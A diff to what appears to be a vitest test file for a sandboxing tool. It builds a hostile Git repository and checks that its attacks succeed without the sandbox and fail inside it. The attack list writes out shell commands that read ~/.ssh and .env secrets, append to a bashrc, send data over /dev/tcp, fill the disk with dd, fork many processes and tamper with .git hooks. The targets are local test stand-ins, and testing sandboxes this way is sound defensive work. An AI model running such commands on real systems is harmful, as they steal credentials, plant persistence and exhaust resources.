@@ -1,5 +1,5 @@
 /** Repositories that attack their users: each way in which one runs its own program, with the sandbox and without. */
-import { execFileSync, spawnSync } from 'node:child_process'
+import { execFile, execFileSync, spawnSync } from 'node:child_process'
 import {
   chmodSync,
   existsSync,
@@ -7,12 +7,14 @@ import {
   readdirSync,
   readFileSync,
   rmSync,
+  statSync,
   symlinkSync,
   writeFileSync,
 } from 'node:fs'
 import { createServer } from 'node:net'
 import { homedir } from 'node:os'
 import { dirname, join } from 'node:path'
+import { promisify } from 'node:util'
 import { describe, expect, it, onTestFinished } from 'vitest'
 import { sandboxedProject, sandboxHere } from '../fakes/real-sandbox.ts'
 import { seededRandom } from '../fakes/seeded-random.ts'
@@ -78,22 +80,80 @@ const files: Record<string, string> = {
   'git-remote-attack': '#!/bin/sh\n./attack helper\n',
 }
 
-type Targets = { outside: string; planted: string; port: number }
+type Targets = { outside: string; planted: string; port: number; home: string }
+type Deed = {
+  /** Shell lines, in the repository. */
+  lines(targets: Targets): string
+  /** True where the lines have got what they are after. */
+  isDone(after: { seen: Seen; output: string; project: string }): boolean
+}
+/** What the attacks could change outside of the repository. */
+type Seen = {
+  kept: string | false
+  outside: string[]
+  planted: boolean[]
+  hasFlood: boolean
+  reached: number
+}
 
-/** Actions of an attack. Shape: shell lines, in the repository. */
-const deeds: ((targets: Targets) => string)[] = [
-  ({ outside }) => `echo owned > ${outside}/kept; rm -rf ${outside}/kept`,
-  ({ outside }) => `cat ${outside}/kept ~/.ssh/* .env > stolen; cat stolen`,
-  ({ planted }) => `touch ${planted}; echo 'touch ${planted}' >> ~/.bashrc.tsugi-test`,
-  ({ port }) => `bash -c 'echo stolen > /dev/tcp/127.0.0.1/${port}'`,
-  ({ outside }) => `ln -s ${outside} away; echo owned > away/kept; echo owned > out/kept`,
-  () => `(setsid nohup sleep ${sleepSeconds} > /dev/null 2>&1 &)`,
-  () => 'for i in $(seq 80); do sleep 1 & done',
-  () => 'dd if=/dev/zero of=flood bs=1M count=100; dd if=/dev/zero of=/tmp/flood bs=1M count=100',
-  () => 'echo "#!/bin/sh" > .git/hooks/post-commit; echo x >> .git/config; mv .git .git2',
-  () => 'mkdir -p .tsugi; echo "{}" > .tsugi/rules.json; chmod -R 777 .',
-  ({ outside }) => `unshare -Ur mount --bind ${outside} out; umount -l .env; cat .env`,
-]
+const floodBytes = 100 * 1024 ** 2
+/** A file that the flood writes outside of the repository. */
+const flood = `/tmp/flood-${process.pid}`
+const sleepers = (): string[] =>
+  spawnSync('pgrep', ['-f', `sleep ${sleepSeconds}`], { encoding: 'utf8' })
+    .stdout.split('\n')
+    .filter(Boolean)
+
+/** Actions of an attack. */
+const deeds: Record<string, Deed> = {
+  'removes a file outside': {
+    lines: ({ outside }) => `echo owned > ${outside}/kept; rm -rf ${outside}/kept`,
+    isDone: ({ seen }) => seen.kept === false,
+  },
+  'reads secrets': {
+    lines: ({ outside }) => `cat ${outside}/kept ~/.ssh/* .env > stolen; cat stolen`,
+    isDone: ({ output }) =>
+      ['outside', 'home', 'project'].every((place) => output.includes(`SECRET of the ${place}`)),
+  },
+  'plants files in the home folder': {
+    lines: ({ planted }) => `touch ${planted}; echo 'touch ${planted}' >> ~/.bashrc.tsugi-test`,
+    isDone: ({ seen }) => seen.planted.every(Boolean),
+  },
+  'connects to a server': {
+    lines: ({ port }) => `bash -c 'echo stolen > /dev/tcp/127.0.0.1/${port}'`,
+    isDone: ({ seen }) => seen.reached > 0,
+  },
+  'writes through links': {
+    lines: ({ outside }) => `ln -s ${outside} away; echo owned > away/kept; echo owned > out/new`,
+    isDone: ({ seen }) => seen.kept === 'owned\n' && seen.outside.includes('new'),
+  },
+  'leaves a process running': {
+    lines: () => `(setsid nohup sleep ${sleepSeconds} > /dev/null 2>&1 &)`,
+    isDone: () => sleepers().length > 0,
+  },
+  'fills the disk': {
+    lines: () => `dd if=/dev/zero of=flood bs=1M count=100; dd if=/dev/zero of=${flood} bs=1M count=100`,
+    isDone: ({ project }) =>
+      [join(project, 'flood'), flood].every((path) => statSync(path).size === floodBytes),
+  },
+  'changes Git’s folder': {
+    lines: () => 'echo "#!/bin/sh" > .git/hooks/post-commit; echo x >> .git/config; mv .git .git2',
+    isDone: ({ project }) => existsSync(join(project, '.git2', 'hooks', 'post-commit')),
+  },
+  'writes its own rules': {
+    lines: () => 'mkdir -p .tsugi; echo "{}" > .tsugi/rules.json; chmod -R 777 .',
+    isDone: ({ project }) => (statSync(join(project, '.tsugi', 'rules.json')).mode & 0o777) === 0o777,
+  },
+  'reads a masked file': {
+    lines: ({ outside }) => `unshare -Ur mount --bind ${outside} out; umount -l .env; cat .env`,
+    isDone: ({ output }) => output.includes('SECRET of the project'),
+  },
+  // The last one: deeds behind it could start no process.
+  'starts many processes': {
+    lines: () => 'for i in $(seq 80); do sleep 1 & done; echo all started',
+    isDone: ({ output }) => output.includes('all started'),
+  },
+}
 
 function makeRepository(project: string, targets: Targets, chosen: readonly string[]): void {
   for (const [path, text] of Object.entries(files)) {
@@ -117,20 +177,25 @@ function makeRepository(project: string, targets: Targets, chosen: readonly stri
   git('add', '.gitmodules')
   git('commit', '-qm', 'two')
   for (const name of ['a.txt', 'b.bin', 'c.ext']) writeFileSync(join(project, name), 'changed\n')
-  writeFileSync(join(project, '.env'), 'SECRET of the project\n')
-  symlinkSync(targets.outside, join(project, 'out'))
   writeFileSync(join(project, '.git/hooks/pre-commit'), '#!/bin/sh\n./attack hook\n')
-  const script = ['#!/bin/sh', `cd ${project}`, 'touch "ran-$1"', ...chosen.map((each) => `( ${each} ) 2>&1`)]
-  writeFileSync(join(project, 'attack'), `${script.join('\n')}\ntrue\n`)
-  for (const name of ['attack', 'configure', 'git-remote-attack', '.git/hooks/pre-commit'])
+  placeAttack(project, targets, chosen)
+  for (const name of ['configure', 'git-remote-attack', '.git/hooks/pre-commit'])
     chmodSync(join(project, name), 0o755)
   writeFileSync(join(project, '.git/config'), readFileSync(join(project, '.git/config'), 'utf8') + config)
 }
 
-async function targetsHere() {
+/** Writes the program of the attack and what it is after in the repository. */
+function placeAttack(project: string, targets: Targets, chosen: readonly string[]): void {
+  writeFileSync(join(project, '.env'), 'SECRET of the project\n')
+  symlinkSync(targets.outside, join(project, 'out'))
+  const script = ['#!/bin/sh', `cd ${project}`, 'touch "ran-$1"', ...chosen.map((each) => `( ${each} ) 2>&1`)]
+  writeFileSync(join(project, 'attack'), `${script.join('\n')}\ntrue\n`, { mode: 0o755 })
+}
+
+async function targetsHere(home = homedir()) {
   const outside = tempFolder()
   writeFileSync(join(outside, 'kept'), 'SECRET of the outside\n')
-  const planted = join(homedir(), `.tsugi-planted-${process.pid}`)
+  const planted = join(home, `.tsugi-planted-${process.pid}`)
   let reached = 0
   const server = createServer((socket) => {
     reached += 1
@@ -139,17 +204,18 @@ async function targetsHere() {
   await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
   onTestFinished(() => {
     server.close()
-    for (const path of [planted, join(homedir(), '.bashrc.tsugi-test')]) rmSync(path, { force: true })
+    for (const path of [planted, join(home, '.bashrc.tsugi-test'), flood]) rmSync(path, { force: true })
   })
   const address = server.address()
   const port = typeof address === 'object' && address !== null ? address.port : 0
-  const seen = () => ({
+  const seen = (): Seen => ({
     kept: existsSync(join(outside, 'kept')) && readFileSync(join(outside, 'kept'), 'utf8'),
     outside: readdirSync(outside),
-    planted: [planted, join(homedir(), '.bashrc.tsugi-test')].map((path) => existsSync(path)),
+    planted: [planted, join(home, '.bashrc.tsugi-test')].map((path) => existsSync(path)),
+    hasFlood: existsSync(flood),
     reached,
   })
-  return { targets: { outside, planted, port }, seen }
+  return { targets: { outside, planted, port, home }, seen }
 }
 
 function stateOf(project: string): string {
@@ -182,6 +248,21 @@ describe.skipIf(here.kind === 'none')('a repository that attacks', () => {
     expect(readFileSync(join(targets.outside, 'kept'), 'utf8')).toBe('owned\n')
   })
 
+  it.each(Object.entries(deeds))('%s without the wall', async (_does, { lines, isDone }) => {
+    const [project, home] = [tempFolder(), tempFolder()]
+    const { targets, seen } = await targetsHere(home)
+    mkdirSync(join(project, '.git', 'hooks'), { recursive: true })
+    mkdirSync(join(home, '.ssh'))
+    writeFileSync(join(home, '.ssh', 'key'), 'SECRET of the home\n')
+    placeAttack(project, targets, [lines(targets)])
+    onTestFinished(() => {
+      for (const pid of sleepers()) process.kill(Number(pid), 'SIGKILL')
+    })
+    const env = { ...process.env, HOME: home }
+    const { stdout: output } = await promisify(execFile)('./attack', ['alone'], { cwd: project, env })
+    await expect.poll(() => isDone({ seen: seen(), output, project })).toBe(true)
+  })
+
   it.each(Array.from({ length: rounds }, (_, at) => firstSeed + at))(
     'reaches nothing from behind it, whatever it does (seed %i)',
     async (seed) => {
@@ -189,7 +270,9 @@ describe.skipIf(here.kind === 'none')('a repository that attacks', () => {
       const { targets, seen } = await targetsHere()
       const { project, dataDir, run } = await sandboxedProject()
       // The first round does everything.
-      const chosen = deeds.filter(() => seed === 1 || random() < 0.5).map((deed) => deed(targets))
+      const chosen = Object.values(deeds)
+        .filter(() => seed === 1 || random() < 0.5)
+        .map(({ lines }) => lines(targets))
       makeRepository(project, targets, chosen)
       const [before, tree] = [seen(), stateOf(project)]
       // Attacks by Git's own configuration, and by the project's.
@@ -203,7 +286,7 @@ describe.skipIf(here.kind === 'none')('a repository that attacks', () => {
       expect(seen()).toEqual(before)
       expect(stateOf(project)).toBe(tree)
       // No process of the attack still runs, and its files have stopped growing.
-      expect(spawnSync('pgrep', ['-f', `sleep ${sleepSeconds}`]).status).toBe(1)
+      expect(sleepers()).toEqual([])
       const sizeKb = Number(execFileSync('du', ['-sk', dataDir], { encoding: 'utf8' }).split('\t')[0])
       expect(sizeKb).toBeLessThan(300_000)
       // The attacks did run in the sandbox, also those by Git, as far as the read-only `.git` folder allows.
